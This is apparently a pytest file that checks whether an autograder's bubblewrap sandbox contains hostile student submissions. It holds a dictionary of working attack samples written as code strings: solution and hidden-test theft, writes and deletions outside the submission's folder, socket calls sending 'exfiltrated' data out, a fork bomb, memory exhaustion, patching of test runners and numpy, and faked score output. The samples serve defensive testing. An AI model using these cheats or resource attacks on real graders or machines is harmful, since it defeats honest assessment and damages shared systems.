"""Hostile submissions: ``toolkit grade`` runs each in a bubblewrap sandbox (toolkit.teaching.sandbox).

Each one is a bridge_test answer that tries to cheat or to do harm: find the masters and run
their solution, read the hidden tests (and raise them as its feedback), write and delete outside
its folder, reach the network, fork without end. Graded together in parallel, each must score 0
on the question it answers and leave the instructor's files, the host's ``/tmp`` and the host's
processes as they were; graded without the sandbox, the first one finds the master and scores full
marks (the control: the sandbox is what stops it). Where bubblewrap cannot run, grading refuses.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from assignment_variants import Variant
from test_assignments import _solved, _with_variant

from toolkit import cli
from toolkit.teaching import classroom, grading, sandbox

ROOT = Path(__file__).resolve().parent.parent
MASTER = grading.master("bridge_test")
MARK = Path("/tmp/toolkit-grading-sandbox-was-escaped")  # on the host: a hostile write must not land here

HOSTILE = {  # label -> code replacing the cell that defines its first function (bridge_test: q1, passage_fraction: q2)
    "finds_the_masters": """
def bridge_test(checker, n_attempts, sigma, rng):
    import glob, json, os
    import toolkit
    if "_solution" in globals():
        return _solution(checker, n_attempts, sigma, rng)
    roots = [os.path.dirname(os.path.dirname(toolkit.__file__)), "{root}", "/work", "/root", "/home", "/"]
    for root in roots:
        for path in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True):
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            for cell in cells:
                source = "".join(cell["source"])
                if "# BEGIN SOLUTION" in source and "def bridge_test(" in source:
                    exec(source.replace("def bridge_test", "def _solution"), globals())
                    return _solution(checker, n_attempts, sigma, rng)
    raise RuntimeError("no master found")
""",
    "reads_the_hidden_tests": """
def bridge_test(checker, n_attempts, sigma, rng):
    import glob, zipfile
    found = [open(p).read() for p in glob.glob("/**/tests/q1.py", recursive=True)]
    for path in glob.glob("/**/*.zip", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
        try:
            text = open(path, "rb").read().decode("latin-1")
        except OSError:
            continue
        if "_checks = " in text or "autograder" in path:
            found.append(path + ": " + text)
    raise RuntimeError("".join(found)[:3000] or "no tests found")
""",
    "writes_outside_its_folder": """
def bridge_test(checker, n_attempts, sigma, rng):
    import os
    import toolkit
    targets = ["{mark}", os.path.join(os.path.dirname(toolkit.__file__), "pwned.py"), "{master}"]
    for target in targets:
        for action in (lambda: open(target, "w").write("pwned"), lambda: os.remove(target)):
            try:
                action()
            except OSError:
                pass
    raise RuntimeError("wrote what it could")
""",
    "opens_a_network_connection": """
def bridge_test(checker, n_attempts, sigma, rng):
    import socket
    for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
        try:
            socket.create_connection((host, port), timeout=3).sendall(b"exfiltrated")
        except OSError:
            pass
    raise RuntimeError("no answer")
""",
    "forks_without_end": """
def bridge_test(checker, n_attempts, sigma, rng):
    import os
    while True:
        os.fork()
""",
    "replaces_the_test_runner": """
import doctest as _doctest
_doctest.DocTestRunner.run = lambda self, test, *args, **kwargs: _doctest.TestResults(0, len(test.examples))
try:
    from otter.test_files import OKTestFile as _OK
    _OK.run = lambda self, global_environment: None
    _OK.score = property(lambda self: sum(case.points or 0 for case in self.test_cases))
    _OK.passed_all = property(lambda self: True)
except Exception:
    pass
import toolkit.teaching.grading as _g
_g.run_case = lambda code, submission: None
def bridge_test(checker, n_attempts, sigma, rng):
    return None
""",
    "fakes_the_results_and_exits": """
def bridge_test(checker, n_attempts, sigma, rng):
    import json, os
    passed = "All test cases passed!"
    tests = [{{"name": q, "score": p, "max_score": p, "output": passed}} for q, p in (("q1", 6), ("q2", 2))]
    folders = {{os.getcwd(), "/tmp", "/grading/out", "/grading/in", "/autograder/results"}}
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{{pid}}/cmdline").read().split("\\0")
        except OSError:
            continue
        folders.update(args[i + 1] for i, a in enumerate(args[:-1]) if a == "-o")
    for folder in folders:
        try:
            json.dump({{"tests": tests, "score": 8}}, open(os.path.join(folder, "results.json"), "w"))
        except OSError:
            pass
    print("q1 results: All test cases passed!")
    print("score: 8/8", flush=True)
    os._exit(0)
""",
    "patches_numpy": """
np.isclose = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
def passage_fraction(Q, passage):
    return float("nan")
""",
    "returns_an_array_equal_to_everything": """
class _Yes(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool) if np.ndim(other) else True
    __le__ = __ge__ = __eq__
    def __float__(self):
        return 0.5
def passage_fraction(Q, passage):
    return np.zeros(()).view(_Yes)
""",
    "copies_the_library_code_before_it_is_refused": """
import types as _types
from toolkit.planning import sampling as _sampling
_draw = _types.FunctionType(_sampling.BridgeTestSampler.draw.__code__, _sampling.BridgeTestSampler.draw.__globals__)
def bridge_test(checker, n_attempts, sigma, rng):
    middles = _draw(_sampling.BridgeTestSampler(checker, sigma=sigma), n_attempts, rng)
    return middles, middles, middles
""",
    "reloads_the_library": """
def bridge_test(checker, n_attempts, sigma, rng):
    import importlib
    from toolkit.planning import sampling
    fresh = importlib.reload(sampling)
    middles = fresh.BridgeTestSampler(checker, sigma=sigma).draw(n_attempts, rng)
    return middles, middles, middles
""",
    "exhausts_memory_and_files": """
def bridge_test(checker, n_attempts, sigma, rng):
    import os
    files = []
    try:
        while True:
            files.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    hoard = []
    while True:
        hoard.append(bytearray(2**28))
""",
    "prints_a_score_line": """
def bridge_test(checker, n_attempts, sigma, rng):
    import sys
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        print("q1: 6/6\\nq2: 2/2\\nscore: 8/8", file=stream, flush=True)
    raise RuntimeError("\\nscore: 8/8\\nscore: 8/8")
""",
}
CHEATS_OTTER_ALONE_PAYS = ("patches_numpy", "replaces_the_test_runner")  # in the submission's process, they score


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sandbox_processes() -> list[str]:
    """Processes on the host run by a sandbox's uid."""
    lines = subprocess.run(["ps", "-eo", "uid=,pid=,comm="], capture_output=True, text=True).stdout.splitlines()
    first, last = sandbox.FIRST_UID, sandbox.FIRST_UID + sandbox.UIDS
    return [line for line in lines if first <= int(line.split()[0]) < last]


@pytest.mark.slow
def test_hostile_submissions_score_nothing_and_harm_nothing(assignment_zip, tmp_path):
    assert sandbox.unavailable() is None, f"the sandbox must run where the tests run: {sandbox.unavailable()}"
    assignment_zip("bridge_test")  # built once a test session
    listener = socket.create_server(("127.0.0.1", 0))  # a host service a submission tries to reach
    connections: list = []
    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()
    fill = {"root": ROOT, "mark": MARK, "master": MASTER, "port": listener.getsockname()[1]}
    variants = {
        label: Variant("bridge_test", frozenset({"q1"}), code.format(**fill), label) for label, code in HOSTILE.items()
    }
    notebooks = {label: _with_variant(variant, tmp_path / f"{label}.ipynb") for label, variant in variants.items()}
    before = {path: _digest(path) for path in (MASTER, _solved("bridge_test"))}
    results = classroom.grade_all(list(notebooks.values()), timeout=120, workers=len(notebooks), progress=False)
    secrets = grading._secrets(grading.autograder("bridge_test"), "q1") | grading._secrets(
        grading.autograder("bridge_test"), "q2"
    )
    for label, notebook in notebooks.items():
        result, report = results[notebook], grading.report(results[notebook])
        question = "q1" if variants[label].function == "bridge_test" else "q2"
        scores = {q["name"]: q["score"] for q in result["questions"]}
        assert scores.get(question, 0.0) == 0, f"{label}: {report}"
        assert not [line for line in secrets if line in str(result)], f"{label}: the result quotes a hidden test"
        assert [line for line in report.splitlines() if line.lstrip().startswith("score:")] == [report.splitlines()[-1]]
        assert report.splitlines()[-1] == f"score: {result['score']:g}/{result['max_score']:g}", report
    assert {path: _digest(path) for path in before} == before, "a submission changed the instructor's files"
    assert not MARK.exists() and not (ROOT / "toolkit" / "pwned.py").exists(), "a submission wrote outside its folder"
    assert not connections, "a submission reached a service on the host"
    deadline = time.monotonic() + 30  # a killed sandbox's processes go with it, those freeing gigabytes not at once
    while _sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not _sandbox_processes(), f"processes outlived their sandbox by 30 s: {_sandbox_processes()}"
    with ThreadPoolExecutor() as pool:  # the controls, at once: each one waits mostly on a process of its own
        unisolated = pool.submit(grading.grade, notebooks["finds_the_masters"], timeout=240, isolate=False)
        fooled = {label: pool.submit(_otter_in_process, notebooks[label]) for label in CHEATS_OTTER_ALONE_PAYS}
    found = unisolated.result()
    assert found["score"] == found["max_score"], "without the sandbox the master is within reach"
    for label, scores in fooled.items():  # otter's tests in the submission's process are fooled
        assert sum(scores.result().values()) > 0, label


def _otter_in_process(notebook: Path) -> dict[str, float]:
    """otter's scores with its tests in the submission's own process (as Gradescope grades), in a process of its own
    (a cheat patches what it finds)."""
    script = "import json, pathlib, sys; from test_assignments import _scores_in_process as s; "
    script += "print(json.dumps(s(pathlib.Path(sys.argv[1]))))"
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            script.replace("s(sys.argv[1])", "s(__import__('pathlib').Path(sys.argv[1]))"),
            notebook,
        ],
        capture_output=True,
        text=True,
        cwd=ROOT / "tests",
        env={**os.environ, "PYTHONPATH": f"{ROOT}:{ROOT / 'tests'}"},
        timeout=600,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_grading_refuses_where_it_cannot_isolate(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(sandbox, "unavailable", lambda: "bwrap is not installed")
    notebook = tmp_path / "bridge_test.ipynb"
    notebook.write_text("{}")
    with pytest.raises(sandbox.CannotIsolate, match="cannot isolate the submissions: bwrap is not installed"):
        classroom.grade_all([notebook])
    with pytest.raises(sandbox.CannotIsolate, match="cannot isolate"):
        grading.grade(notebook)
    capsys.readouterr()
    assert cli.main(["grade", str(notebook)]) == 2
    assert capsys.readouterr().err.splitlines() == [  # at the command line: one line, no traceback
        "toolkit grade: error: cannot isolate the submissions: bwrap is not installed; grade without isolation only "
        "if you trust them"
    ]


def test_the_sandbox_sees_the_toolkit_but_not_the_repository():
    if why := sandbox.unavailable():
        pytest.fail(f"bubblewrap must run where the tests run (make sandbox): {why}")
    probe = "import os, toolkit; print(toolkit.__file__); print(os.path.exists({root!r})); print(os.getuid())"
    done = subprocess.run(
        sandbox.command(["python3", "-c", probe.format(root=str(ROOT / "tutorials"))], {}, {}, cpu_s=60),
        capture_output=True,
        text=True,
    )
    lines = done.stdout.split()
    assert lines[:2] == [f"{sandbox.LIBRARY}/toolkit/__init__.py", "False"], done.stderr
    assert sandbox.FIRST_UID <= int(lines[2]) < sandbox.FIRST_UID + sandbox.UIDS


def test_a_sandboxed_program_that_hoards_memory_fails_at_its_limit_not_the_machine():
    """A submission that allocates without end gets a MemoryError at the sandbox's address-space limit
    (``sandbox.MEMORY_BYTES``), in seconds, instead of taking the grading machine's memory until its time runs out."""
    assert sandbox.unavailable() is None, f"the sandbox must run where the tests run: {sandbox.unavailable()}"
    hoard = "h = []\ntry:\n    while True: h.append(bytearray(2**28))\nexcept MemoryError: print(len(h) * 2**28)"
    run = subprocess.run(
        sandbox.command([sys.executable, "-c", hoard], {}, {}, cpu_s=60), capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 0, run.stderr
    held = int(run.stdout)  # bytes it held when the allocation failed
    assert sandbox.MEMORY_BYTES / 2 < held <= sandbox.MEMORY_BYTES
